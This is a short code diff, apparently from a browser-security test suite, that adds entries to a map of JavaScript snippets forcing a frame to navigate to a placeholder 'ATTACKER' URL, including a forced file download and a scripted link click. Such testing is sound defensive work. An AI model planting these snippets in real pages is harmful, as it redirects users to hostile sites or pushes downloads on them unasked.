@@ -70,4 +70,8 @@ export const FRAME_NAVIGATIONS: Record<string, string> = {
 	'navigation by a refresh':
 		"document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=ATTACKER' }))",
 	navigation: "(() => { location.href = 'ATTACKER'; })()",
+	'a download':
+		"(() => { const a = Object.assign(document.createElement('a'), { href: 'ATTACKER', download: 'x' }); document.body.append(a); a.click(); })()",
+	'a click on a link':
+		"(() => { const a = Object.assign(document.createElement('a'), { href: 'ATTACKER' }); document.body.append(a); a.click(); })()",
 };
